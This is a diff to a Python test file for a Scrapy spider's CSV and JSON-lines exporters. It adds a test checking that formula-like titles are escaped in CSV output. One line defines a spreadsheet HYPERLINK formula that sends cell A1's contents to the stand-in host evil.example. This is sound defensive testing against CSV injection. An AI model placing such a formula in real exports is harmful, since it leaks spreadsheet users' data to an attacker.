@@ -22,13 +22,17 @@ from scrapy.utils.defer import deferred_f_from_coro_f, deferred_from_coro
 
 from tests.conftest import InProcessCrawl, run_crawler
 from tests.items import TITLES, export_items, note_id, notes_of
-from xhs_spider.exporters import LIST_SEPARATOR, csv_columns
+from tests.items import note as note_fields
+from xhs_spider.csv_cells import LIST_SEPARATOR
+from xhs_spider.exporters import csv_columns
+from xhs_spider.items import NoteItem
 from xhs_spider.sandbox import SandboxProcess
 from xhs_spider.schemas import load_schema
 from xhs_spider.spiders.feed import FeedSpider
 from xhs_spider.store import open_store
 
 BOM = codecs.BOM_UTF8
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 CJK_ESCAPE = re.compile(r"\\u[4-9a-f][0-9a-f]{3}", re.IGNORECASE)
 
 
@@ -195,6 +199,29 @@ def test_other_encodings_are_respected_without_bom(runs):
     assert not content.startswith(BOM)
     rows = list(csv.reader(io.StringIO(content.decode("gb18030"), newline="")))
     assert [row[3] for row in rows[1:]] == TITLES
+
+
+class FormulaSpider(scrapy.Spider):
+    name = "formula"
+
+    async def start(self):
+        yield NoteItem(note_fields(1, FORMULA, text="-5 degrees", counts={"likes": -3}))
+
+
+@pytest.mark.parametrize(("raw", "title", "text"), [
+    ("false", "'" + FORMULA, "'-5 degrees"), ("true", FORMULA, "-5 degrees")])
+@deferred_f_from_coro_f
+async def test_a_formula_like_title_is_text_in_csv_and_raw_in_json_lines(tmp_path, raw, title, text):
+    settings: dict[str, Any] = {
+        "FEED_EXPORTERS": {"csv": EXPORTER}, "FEED_EXPORT_ENCODING": "utf-8", "XHS_CSV_RAW_TEXT": raw,
+        "FEEDS": {str(tmp_path / "notes.csv"): {"format": "csv"},
+                  str(tmp_path / "notes.jsonl"): {"format": "jsonlines"}},
+    }
+    assert (await run_crawler(FormulaSpider, settings)).finish_reason == "finished"
+    (record,) = read_records(tmp_path / "notes.csv")
+    assert (record["title"], record["text"], record["counts.likes"]) == (title, text, "-3")
+    (line,) = (tmp_path / "notes.jsonl").read_text("utf-8").splitlines()
+    assert json.loads(line)["title"] == FORMULA
 
 
 # JSON files ------------------------------------------------------------------
